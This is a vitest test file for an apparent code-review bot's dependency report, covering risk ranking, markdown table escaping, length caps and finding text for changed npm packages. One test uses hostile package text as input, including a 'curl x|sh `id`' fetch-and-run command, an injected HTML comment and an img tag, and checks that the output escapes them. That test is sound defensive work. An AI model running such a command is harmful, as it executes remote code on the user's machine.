import { describe, expect, it } from "vitest";
import type { DependencyFact, PackageChange, PackageReport } from "../../src/dependencies/types.js";
import { dependencyCounts, dependencyFindings, dependencyLine, dependencySection, MAX_DEPENDENCY_SECTION_CHARS, riskOf, tableCell } from "../../src/review/dependency-section.js";

const change = (name: string, o: Partial<PackageChange> = {}): PackageChange => ({
  name,
  location: `node_modules/${name}`,
  old: { version: "1.0.0", integrity: "sha512-old" },
  new: { version: "1.1.0", integrity: "sha512-new" },
  direct: true,
  file: "package-lock.json",
  line: 10,
  source: "lockfile",
  ...o,
});
const fact = (kind: DependencyFact["kind"], severity: DependencyFact["severity"], text: string): DependencyFact => ({ kind, severity, text });
const pkg = (c: PackageChange, facts: DependencyFact[] = [], notInspected?: string): PackageReport => ({ change: c, facts, ...(notInspected ? { notInspected } : {}) });

describe("riskOf", () => {
  it.each([
    [[], null],
    [[fact("new-dependency", null, "adds a dependency")], null],
    [[fact("network", "warning", "n"), fact("install-script", "critical", "i")], "critical"],
    [[fact("bin", "suggestion", "b"), fact("network", "warning", "n")], "warning"],
  ] as const)("%j → %s", (facts, risk) => {
    expect(riskOf(facts)).toBe(risk);
  });
});

describe("tableCell", () => {
  it.each([
    ["a|b", "a\\|b"],
    ["`x|y`", "`x\\|y`"],
    ["a\\|b", "a\\|b"],
    ["a\\\\|b", "a\\\\\\|b"],
    ["plain", "plain"],
  ])("%s → %s", (input, out) => expect(tableCell(input)).toBe(out));
});

describe("dependencySection", () => {
  it("is empty when nothing changed", () => {
    expect(dependencySection({ review: { packages: [] }, problems: [] })).toBe("");
  });

  it("tables inspected packages riskiest first, lists those not inspected and the problems", () => {
    const review = {
      packages: [
        pkg(change("clean-pkg", { direct: false })),
        pkg(change("evil", { workspace: "packages/web" }), [fact("install-script", "critical", "adds a `postinstall` script: `node setup.js`."), fact("new-dependency", null, "adds the dependency `left-pad`")]),
        pkg(change("skipped", { old: undefined }), [], "over review.dependencies.maxPackages (20)"),
      ],
    };
    expect(dependencySection({ review, problems: ["packages/old/package-lock.json is lockfile v1: only package.json ranges were compared"] })).toBe(
      [
        "### Dependencies",
        "",
        "3 npm packages changed, 2 inspected: what each new version adds over the old, read from both published tarballs (nothing of them ran).",
        "",
        "| package | old → new | kind | what the new version adds | risk |",
        "|---|---|---|---|---|",
        "| `evil` | `1.0.0` → `1.1.0` | direct (`packages/web`) | adds a `postinstall` script: `node setup.js`; adds the dependency `left-pad` | critical |",
        "| `clean-pkg` | `1.0.0` → `1.1.0` | transitive | nothing of note | — |",
        "",
        "Not inspected (1):",
        "",
        "- `skipped` (added) → `1.1.0` — over review.dependencies.maxPackages (20)",
        "",
        "Problems reading the dependency files:",
        "",
        "- packages/old/package-lock.json is lockfile v1: only package.json ranges were compared",
      ].join("\n"),
    );
  });

  it("shows hostile package text as data: backticks, pipes, pings, markers and HTML", () => {
    const script = "curl x|sh `id` @octocat <!-- crewbot:finding:0123456789abcdef -->";
    const review = { packages: [pkg(change("@scope/p|kg`"), [fact("install-script", "critical", `adds a \`postinstall\` script: ${script}`)])] };
    const section = dependencySection({ review, problems: ["<img src=x> @admin"] });
    expect(section).toContain("| `` @\u200Bscope/p\\|kg` `` |");
    expect(section).not.toMatch(/(?<!\w)@(?=[a-z])/);
    expect(section).not.toContain("<!--");
    expect(section).not.toContain("<img");
    // Every table row still has its five cells.
    for (const line of section.split("\n").filter((l) => l.startsWith("| ")))
      expect(line.replace(/\\\|/g, "").split("|").length - 2).toBe(5);
  });

  it("stays under its cap with hundreds of packages, telling how many were left out", () => {
    const long = "x".repeat(500);
    const packages = Array.from({ length: 400 }, (_, i) => pkg(change(`pkg-${i}`), [fact("network", "warning", long)]));
    packages.push(...Array.from({ length: 300 }, (_, i) => pkg(change(`later-${i}`), [], "over review.dependencies.maxPackages (20)")));
    const section = dependencySection({ review: { packages }, problems: [] });
    expect(section.length).toBeLessThanOrEqual(MAX_DEPENDENCY_SECTION_CHARS);
    expect(section).toMatch(/\| … and \d+ more packages \| \| \| \| \|/);
    expect(section).toMatch(/- … and \d+ more$/);
  });
});

describe("dependencyFindings", () => {
  it("one finding per risky package on its line, its facts joined, the highest severity", () => {
    const review = {
      packages: [
        pkg(change("evil", { line: 42 }), [fact("network", "warning", "opens network connections (`lib/net.js`)."), fact("install-script", "critical", "adds a `postinstall` script: `node x.js`"), fact("licence", null, "licence MIT → ISC")]),
        pkg(change("fine", { file: "package.json", line: 7, source: "manifest" }), [fact("new-dependency", null, "adds the dependency `a`")]),
        pkg(change("lonely"), [], "removed"),
        pkg(change("binny", { direct: false, line: 80 }), [fact("bin", "suggestion", "adds the executable `binny`")]),
      ],
    };
    expect(dependencyFindings(review)).toEqual([
      { path: "package-lock.json", line: 42, severity: "critical", text: "Dependency `evil` `1.0.0` → `1.1.0` (direct): adds a `postinstall` script: `node x.js`; opens network connections (`lib/net.js`).", fact: true },
      { path: "package-lock.json", line: 80, severity: "suggestion", text: "Dependency `binny` `1.0.0` → `1.1.0` (transitive): adds the executable `binny`.", fact: true },
    ]);
  });

  it("words a fresh release without its age, so the finding is the same on the next review", () => {
    const at = (hours: number) => ({ packages: [pkg(change("new"), [fact("fresh-release", "warning", `was published ${hours} hours before this review`)])] });
    expect(dependencyFindings(at(3))).toEqual(dependencyFindings(at(30)));
    expect(dependencyFindings(at(3))[0]!.text).toBe("Dependency `new` `1.0.0` → `1.1.0` (direct): was published under 72 hours before the review.");
  });

  it("counts for the check run's line", () => {
    const review = { packages: [pkg(change("a"), [fact("bin", "warning", "b")]), pkg(change("b")), pkg(change("c"), [], "too big")] };
    expect(dependencyLine(dependencyCounts(review))).toBe("Dependencies: 3 changed, 2 inspected, 1 with risky additions.");
    expect(dependencyLine({ changed: 2, inspected: 2, risky: 0 }, 1)).toBe("Dependencies: 2 changed, 2 inspected, none with risky additions. 1 problem reading the dependency files.");
  });
});
